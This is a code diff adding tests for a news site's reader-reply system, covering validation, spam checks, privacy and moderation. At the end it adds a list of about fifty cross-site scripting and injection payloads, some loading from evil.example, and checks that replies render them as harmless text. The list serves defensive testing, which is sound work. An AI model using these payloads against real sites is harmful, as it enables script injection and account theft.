@@ -1,7 +1,11 @@
-import { expect, test } from 'vitest'
+import { createHash } from 'node:crypto'
+import { describe, expect, test } from 'vitest'
+import { minutes } from '../../base/clock.ts'
+import { clean } from '../../base/text.ts'
 import { onEveryDatabase } from '../../testing/databases.ts'
-import { aSite } from '../../testing/site.ts'
+import { aSite, doneOrFault } from '../../testing/site.ts'
 import { urls } from '../../urls.ts'
+import type { ReplyId } from './reply.ts'
 
 type Site = Awaited<ReturnType<typeof aSite>>
 
@@ -13,6 +17,11 @@ async function send(site: Site, fields: Record<string, string> = {}, headers: Re
   return site.app.request(urls.replies(path), { method: 'POST', body, headers })
 }
 
+async function refusal(site: Site, fields: Record<string, string>) {
+  const response = await send(site, fields)
+  return { status: response.status, text: await response.text() }
+}
+
 async function text(site: Site, address: string, cookie = '') {
   const response = await site.app.request(address, { headers: { cookie } })
   return { status: response.status, text: await response.text(), headers: response.headers }
@@ -20,6 +29,16 @@ async function text(site: Site, address: string, cookie = '') {
 
 function cookieOf(response: Response): string {
   return response.headers.get('set-cookie')?.split(';')[0] ?? ''
+}
+
+async function heldCount(site: Site) {
+  return site.replies.held(await site.staff())
+}
+
+async function publish(site: Site, location: string) {
+  const replyId = location.split('/')[5] as ReplyId
+  doneOrFault(await site.replies.decide(await site.staff(), { replyId, to: 'published' }))
+  return replyId
 }
 
 onEveryDatabase((open) => {
@@ -44,15 +63,451 @@ onEveryDatabase((open) => {
     const own = await text(site, location, cookieOf(sent))
 
     expect(sent.status).toBe(303)
-    expect(sent.headers.get('set-cookie')).toMatch(/^stet_reader=[\w-]{40,}; .*HttpOnly; SameSite=Lax$/)
+    expect(sent.headers.get('set-cookie')).toMatch(/^stet_reader=[\w-]{32}; .*HttpOnly; SameSite=Lax$/)
     expect(own.status).toBe(200)
     expect(own.text).toContain(words.body)
     expect(own.text).toContain('Your reply is held')
     expect(own.headers.get('cache-control')).toBe('no-store')
     expect(own.headers.get('x-robots-tag')).toBe('noindex')
     expect((await text(site, location)).status).toBe(404)
-    expect((await text(site, location, `stet_reader=${'x'.repeat(43)}`)).status).toBe(404)
+    expect((await text(site, location, `stet_reader=${'x'.repeat(32)}`)).status).toBe(404)
     expect((await text(site, path)).text).not.toContain(words.body)
     expect((await site.articles.byId(article.id))?.replyCount).toBe(0)
+  })
+
+  test('a published reply is on the page, at its own address, and where its writer was sent', async () => {
+    const site = await aSite(await open())
+    await site.article()
+    const sent = await send(site)
+    const location = sent.headers.get('location') ?? ''
+
+    const id = await publish(site, location)
+    const trusted = await send(site, { body: 'And who pays?' }, { cookie: cookieOf(sent) })
+
+    expect((await text(site, path)).text).toContain(`<li id="r-${id}">`)
+    expect((await text(site, urls.reply(path, id))).text).toContain(words.body)
+    expect((await site.app.request(location, { headers: { cookie: cookieOf(sent) } })).status).toBe(303)
+    expect(trusted.headers.get('location')).toMatch(/^\/2026\/11\/ferry-runs-again\/replies\/\w{26}#r-\w{26}$/)
+  })
+
+  test('a hidden reply tells its writer why, and nobody else anything', async () => {
+    const site = await aSite(await open())
+    await site.article()
+    const sent = await send(site)
+    const location = sent.headers.get('location') ?? ''
+    const replyId = location.split('/')[5] as ReplyId
+    const because = 'Accuses somebody without grounds'
+    doneOrFault(await site.replies.decide(await site.staff(), { replyId, to: 'hidden', because }))
+
+    const own = await text(site, location, cookieOf(sent))
+
+    expect(own.text).toContain(because)
+    expect((await text(site, urls.reply(path, replyId))).status).toBe(404)
+  })
+
+  test('a plain request without a cookie, a key or a stamp is a reply too', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const sent = await site.app.request(urls.replies(path), { method: 'POST', body: new URLSearchParams(words) })
+
+    expect(sent.status).toBe(303)
+  })
+
+  test.each([
+    ['no words', { body: ' \n ' }, 'reply-body-problem'],
+    ['words without ink', { body: '\u200b\u3164\u0301' }, 'reply-body-problem'],
+    ['too many words', { body: 'x'.repeat(5001) }, 'reply-body-problem'],
+    ['no name', { name: '' }, 'reply-name-problem'],
+    ['a name as long as a page', { name: 'x'.repeat(81) }, 'reply-name-problem'],
+    ['no address', { email: '' }, 'reply-email-problem'],
+    ['a malformed address', { email: 'mina at reader' }, 'reply-email-problem'],
+    ['two addresses', { email: 'a@b.example, c@d.example' }, 'reply-email-problem'],
+  ])('a reply with %s comes back with the field named and every other word in it', async (_title, fields, problem) => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const { status, text: page } = await refusal(site, fields)
+
+    expect(status).toBe(422)
+    expect(page).toContain(`aria-invalid="true" aria-describedby="${problem}"`)
+    for (const [name, value] of Object.entries(words)) if (!(name in fields)) expect(page).toContain(value)
+    expect(page.includes('xxxxx')).toBe(Object.values(fields).join().includes('xxxxx'))
+    expect(await heldCount(site)).toBe(0)
+  })
+
+  test('five thousand characters are not too many', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    expect((await send(site, { body: 'x'.repeat(5000) })).status).toBe(303)
+  })
+
+  test('a body of two megabytes is refused unread, with the form', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const { status, text: page } = await refusal(site, { body: 'x'.repeat(2_000_000) })
+
+    expect(status).toBe(413)
+    expect(page).toContain('Leave a Reply')
+    expect(page).not.toContain('xxxxx')
+  })
+
+  test('a field that people do not see is filled in only by programs', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const { status, text: page } = await refusal(site, { website: 'https://buy.example' })
+
+    expect(status).toBe(422)
+    expect(page).toContain(words.body)
+    expect(page).not.toContain('buy.example')
+  })
+
+  test('a form sent at once is refused, and the same form a few seconds later is not', async () => {
+    const site = await aSite(await open())
+    await site.article()
+    const [, form = ''] = /name="form" value="([^"]+)"/.exec((await text(site, path)).text) ?? []
+
+    const quick = await refusal(site, { form })
+    site.clock.pass(3_000)
+    const again = await send(site, { form })
+
+    expect(quick.status).toBe(422)
+    expect(quick.text).toContain(`name="form" value="${form}"`)
+    expect(again.status).toBe(303)
+  })
+
+  test('a double click is one reply', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const [one, two] = await Promise.all([send(site), send(site)])
+    const slow = await send(site, {}, { cookie: cookieOf(one) })
+
+    const locations = [one, two, slow].map((response) => response.headers.get('location'))
+    expect(new Set(locations).size).toBe(1)
+    expect(cookieOf(two)).toBe(cookieOf(one))
+    expect(await heldCount(site)).toBe(1)
+  })
+
+  test('a closed article takes no replies, and hands the words back', async () => {
+    const site = await aSite(await open())
+    const article = await site.article()
+    const terms = { articleId: article.id, repliesOpen: false, embargoedUntil: null }
+    doneOrFault(await site.articles.setTerms(await site.staff(), terms))
+
+    const { status, text: page } = await refusal(site, {})
+
+    expect(status).toBe(422)
+    expect(page).toContain('replies to this article are closed')
+    expect(page).toContain(words.body)
+    expect((await text(site, path)).text).not.toContain('Leave a Reply')
+    expect(await heldCount(site)).toBe(0)
+  })
+
+  test('a withdrawn article takes no replies, and hands the words back', async () => {
+    const site = await aSite(await open())
+    const article = await site.article()
+    const editor = await site.staff()
+    doneOrFault(await site.articles.withdraw(editor, { articleId: article.id, because: 'It was not so.' }))
+
+    const { status, text: page } = await refusal(site, {})
+
+    expect(status).toBe(410)
+    expect(page).toContain(words.body)
+    expect(await heldCount(site)).toBe(0)
+  })
+
+  test('an article nobody may see yet is as absent for replies as for readers', async () => {
+    const site = await aSite(await open())
+    await site.draft()
+
+    const [draft, nothing] = [
+      await refusal(site, {}),
+      await site.app.request('/2026/11/no/replies', { method: 'POST' }),
+    ]
+
+    expect(draft.status).toBe(404)
+    expect(draft.text).toContain(words.body)
+    expect(nothing.status).toBe(404)
+  })
+
+  test.each(['pending', 'hidden', 'spam', 'missing', 'nonsense'] as const)(
+    'an answer to a reply that is %s is refused with its words, which can still be a reply',
+    async (what) => {
+      const site = await aSite(await open())
+      const { id: articleId } = await site.article()
+      const isThere = what !== 'missing' && what !== 'nonsense'
+      const answers = isThere
+        ? (await site.reply({ articleId, status: what })).id
+        : what === 'missing'
+          ? articleId
+          : '; --'
+
+      const { status, text: page } = await refusal(site, { answers })
+
+      expect(status).toBe(422)
+      expect(page).toContain('the reply you are answering is no longer here')
+      expect(page).toContain(words.body)
+      expect(page).not.toContain('name="answers"')
+      expect(await site.replies.held(await site.staff())).toBe(what === 'pending' ? 1 : 0)
+    },
+  )
+
+  test('answering has a page of its own that shows what is answered', async () => {
+    const site = await aSite(await open())
+    const { id: articleId } = await site.article()
+    const root = await site.reply({ articleId, body: clean('The wall has been fine since 1887.') })
+
+    const form = await text(site, urls.replyForm(path, root.id))
+    const sent = await send(site, { answers: root.id })
+    const own = await text(site, sent.headers.get('location') ?? '', cookieOf(sent))
+
+    expect(form.text).toContain('The wall has been fine since 1887.')
+    expect(form.text).toContain(`name="answers" value="${root.id}"`)
+    expect(form.headers.get('cache-control')).toBe('no-store')
+    expect(own.status).toBe(200)
+  })
+
+  test('a reply goes to where the article has moved', async () => {
+    const site = await aSite(await open())
+    const article = await site.article()
+    const root = await site.reply({ articleId: article.id })
+    const editor = await site.staff()
+    const content = await site.content({ slug: 'ferry-back' })
+    const save = { articleId: article.id, base: article.draftId, content }
+    const { revision } = doneOrFault(await site.articles.save(editor, save))
+    doneOrFault(await site.articles.publish(editor, { articleId: article.id, revisionId: revision.id }))
+
+    const sent = await send(site)
+    const moved = await site.app.request(urls.reply(path, root.id))
+
+    expect(sent.headers.get('location')).toMatch(/^\/2026\/11\/ferry-back\/replies\//)
+    expect(moved.headers.get('location')).toBe(urls.reply('/2026/11/ferry-back', root.id))
+  })
+
+  test('reading where replies are sent is not how it is done', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    const response = await site.app.request(urls.replies(path))
+
+    expect(response.status).toBe(405)
+    expect(response.headers.get('allow')).toBe('POST')
+  })
+
+  test('a form from another site is refused', async () => {
+    const site = await aSite(await open())
+    await site.article()
+
+    expect((await send(site, {}, { origin: 'https://evil.example' })).status).toBe(403)
+    expect(await heldCount(site)).toBe(0)
+  })
+
+  test('further replies and further answers have real addresses', async () => {
+    const site = await aSite(await open())
+    const { id: articleId } = await site.article()
+    const first = await site.reply({ articleId })
+    for (let count = 0; count < 55; count += 1) {
+      await site.reply({ articleId })
+      await site.reply({ articleId, answers: first.id })
+    }
+
+    const [, more = ''] = /href="([^"]+)">More replies/.exec((await text(site, path)).text) ?? []
+    const [, all = ''] = /href="([^"]+)">All 55 answers/.exec((await text(site, path)).text) ?? []
+    const [, answers = ''] = /href="([^"]+)">More answers/.exec((await text(site, all)).text) ?? []
+
+    expect((await text(site, path)).text.match(/<li id="r-/g)).toHaveLength(60)
+    expect((await text(site, more)).text.match(/<li id="r-/g)).toHaveLength(6)
+    expect((await text(site, answers)).text.match(/<li id="r-/g)).toHaveLength(6)
+    expect((await text(site, urls.repliesAfter(path, articleId))).status).toBe(404)
+  })
+
+  test('publishing drops the pages of this thread and no other; a held reply drops none', async () => {
+    const site = await aSite(await open())
+    await site.article()
+    const other = await site.article({ slug: 'another' })
+    const otherPath = other.path ?? ''
+    const root = await site.reply({ articleId: other.id })
+    for (const address of [path, otherPath, urls.reply(otherPath, root.id), urls.home]) await text(site, address)
+    const isKept = () =>
+      [path, otherPath, urls.reply(otherPath, root.id), urls.home].map((each) => !!site.pages.find(each))
+
+    const sent = await send(site)
+    const whileHeld = isKept()
+    await publish(site, sent.headers.get('location') ?? '')
+
+    expect(whileHeld).toEqual([true, true, true, true])
+    expect(isKept()).toEqual([false, true, true, true])
+  })
+
+  test('an address is in no answer, and neither is anything made from it', async () => {
+    const site = await aSite(await open())
+    await site.article()
+    const email = 'canary.bird@aviary.example'
+    const sent = await send(site, { email })
+    const again = await refusal(site, { email, name: '' })
+    const id = await publish(site, sent.headers.get('location') ?? '')
+    const addresses = [path, urls.reply(path, id), urls.replyForm(path, id), urls.home, '/sections/city']
+
+    const pages = await Promise.all(addresses.map(async (address) => (await text(site, address)).text))
+    const own = await text(site, sent.headers.get('location') ?? '', cookieOf(sent))
+    const seen = [...pages, own.text, [...sent.headers].join()].join('\n').toLowerCase()
+
+    expect(again.text).toContain(email)
+    for (const made of madeFrom(email)) expect(seen).not.toContain(made.toLowerCase())
+    expect(seen).not.toContain('aviary')
+  })
+})
+
+function madeFrom(email: string): string[] {
+  const hashes = ['md5', 'sha1', 'sha256'].flatMap((name) =>
+    (['hex', 'base64', 'base64url'] as const).map((encoding) => createHash(name).update(email).digest(encoding)),
+  )
+  return [
+    email,
+    encodeURIComponent(email),
+    ...hashes,
+    Buffer.from(email).toString('base64'),
+    Buffer.from(email).toString('hex'),
+  ]
+}
+
+/** What has run in somebody's comments before: tags, attributes, addresses, encodings, and characters that disturb. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<body onload=alert(1)>',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</p></li></ol></section></main><h1>Hacked</h1>',
+  '--><script>alert(1)</script><!--',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '"><script>alert(1)</script>',
+  "' onmouseover=alert(1) x='",
+  '" onmouseover="alert(1)" x="',
+  '" autofocus onfocus="alert(1)',
+  '` onmouseover=alert(1) `',
+  'https://a.example/"onmouseover="alert(1)',
+  "https://a.example/'onmouseover='alert(1)",
+  'https://a.example/<script>alert(1)</script>',
+  'https://a.example/?q="><img src=x onerror=alert(1)>',
+  'javascript:alert(1)//https://a.example',
+  'javascript://a.example/%0Aalert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'vbscript:msgbox(1)',
+  'http://[::1]:99999/"onclick="alert(1)',
+  'https://user:pass@evil.example/"><b>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '<scr\u200bipt>alert(1)</script>',
+  '{{constructor.constructor("alert(1)")()}}',
+  `\${alert(1)}`,
+  '<%= system("id") %>',
+  '\u202egnp.exe\u202c \u2066x\u2069',
+  '\ud800 half a letter',
+]
+
+const allowedTags = new Set(
+  'html head meta title link body a header div nav ul li main article section h1 h2 p span time ol b bdi br form label textarea input button footer blockquote script'.split(
+    ' ',
+  ),
+)
+
+/** Every tag of a page with its attributes: whether markup came through shows there and nowhere else. */
+function tagsOf(page: string): { name: string; attributes: string[] }[] {
+  return [...page.matchAll(/<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
+    ([, name = '', rest = '']) => ({
+      name: name.toLowerCase(),
+      attributes: [...rest.matchAll(/\s+([\w:-]+)(?:="[^"]*")?/g)].map(([, attribute = '']) => attribute),
+    }),
+  )
+}
+
+/** What no page of ours has: other elements, attributes that run, a second script, addresses that are not addresses. */
+function markupIn(page: string): string[] {
+  const tags = tagsOf(page)
+  const strange = tags.filter(({ name }) => !allowedTags.has(name)).map(({ name }) => name)
+  const running = tags.flatMap(({ attributes }) => attributes.filter((name) => /^(on|style|srcdoc)/i.test(name)))
+  const scripts = page.replace('<script type="application/ld+json">', '').match(/<script/gi) ?? []
+  const links = page.match(/href="(?!https?:|\/|#|mailto:|data:,)[^"]*/g) ?? []
+  const unseen = page.match(/[\u202a-\u202e\u2066-\u2069\u200b]|\p{Cc}(?<!\n)/gu) ?? []
+  return [...strange, ...running, ...scripts, ...links, ...unseen]
+}
+
+describe('whatever a reader writes is text', () => {
+  onEveryDatabase((open) => {
+    test(`${hostile.length} ways to make it run are shown, not run`, async () => {
+      const site = await aSite(await open())
+      const { id: articleId } = await site.article()
+      for (const [place, bad] of hostile.entries()) {
+        const fields = {
+          body: `${place} ${bad}`,
+          name: `${bad.slice(0, 60)} ${place}`,
+          email: `r${place}@reader.example`,
+        }
+        const sent = await send(site, fields)
+        expect([bad, sent.status]).toEqual([bad, 303])
+        await publish(site, sent.headers.get('location') ?? '')
+        site.clock.pass(minutes(1))
+      }
+      const { roots, next } = await site.replies.firstPage(articleId)
+      const own = roots.flatMap(({ id }) => [urls.reply(path, id), urls.replyForm(path, id)])
+
+      for (const address of [path, urls.repliesAfter(path, next ?? ''), ...own]) {
+        const page = await text(site, address)
+        expect(page.status).toBe(200)
+        expect(markupIn(page.text)).toEqual([])
+      }
+    })
+
+    test('what comes back in the form is text too', async () => {
+      const site = await aSite(await open())
+      await site.article()
+
+      const { text: page } = await refusal(site, { body: hostile.join('\n'), name: hostile.join(' '), email: '"><b>' })
+
+      expect(markupIn(page)).toEqual([])
+    })
+
+    test.each(['body', 'name'])(
+      'ten thousand combining marks in the %s are cut to what languages use',
+      async (field) => {
+        const site = await aSite(await open())
+        await site.article()
+
+        const sent = await send(site, { [field]: `Z${'\u0335'.repeat(10_000)}algo` })
+        await publish(site, sent.headers.get('location') ?? '')
+
+        const page = (await text(site, path)).text
+        expect(page).not.toMatch(/\p{M}{6}/u)
+        expect(page).toContain('algo')
+      },
+    )
   })
 })
